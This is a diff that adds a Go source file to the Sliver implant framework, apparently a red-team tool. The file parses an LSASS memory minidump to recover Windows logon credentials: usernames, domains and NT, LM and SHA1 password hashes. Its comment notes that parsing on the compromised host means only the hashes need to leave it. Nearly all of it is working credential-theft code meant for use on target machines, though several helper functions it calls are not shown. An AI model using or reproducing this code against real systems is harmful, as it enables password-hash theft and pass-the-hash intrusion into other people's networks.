@@ -0,0 +1,90 @@
+package lsass
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/hex"
+	"errors"
+	"fmt"
+)
+
+// Credential - MSV credentials of a logon session
+type Credential struct {
+	Username string
+	Domain   string
+	NTHash   string
+	LMHash   string
+	SHA1Hash string
+	LogonID  uint64
+}
+
+// ErrUnsupportedDump - We only know the lsasrv layouts of 64-bit Windows
+var ErrUnsupportedDump = errors.New("only dumps of 64-bit lsass can be parsed")
+
+// Parse - Recover the MSV credentials from a full memory minidump of LSASS,
+// this runs on the host so only the hashes need to leave it
+func Parse(data []byte) ([]*Credential, error) {
+	dump, err := openMinidump(data)
+	if err != nil {
+		return nil, err
+	}
+	if dump.arch != archAMD64 {
+		return nil, ErrUnsupportedDump
+	}
+	lsasrv := dump.module("lsasrv.dll")
+	if lsasrv == nil {
+		return nil, errors.New("lsasrv.dll is not loaded in the dump")
+	}
+	keys := findLsaKeys(dump, lsasrv)
+	if len(keys) == 0 {
+		return nil, fmt.Errorf("could not find the lsa keys (build %d)", dump.build)
+	}
+	sessions, err := findLogonSessions(dump, lsasrv)
+	if err != nil {
+		return nil, err
+	}
+
+	creds := []*Credential{}
+	seen := map[string]bool{}
+	for _, session := range sessions {
+		for _, encrypted := range session.primary {
+			cred := decryptPrimary(dump.build, keys, encrypted)
+			if cred == nil || cred.NTHash == "" {
+				continue
+			}
+			cred.LogonID = session.luid
+			key := cred.Domain + "\\" + cred.Username + ":" + cred.NTHash
+			if seen[key] {
+				continue
+			}
+			seen[key] = true
+			creds = append(creds, cred)
+		}
+	}
+	return creds, nil
+}
+
+func hexHash(data []byte) string {
+	for _, b := range data {
+		if b != 0 {
+			return hex.EncodeToString(data)
+		}
+	}
+	return ""
+}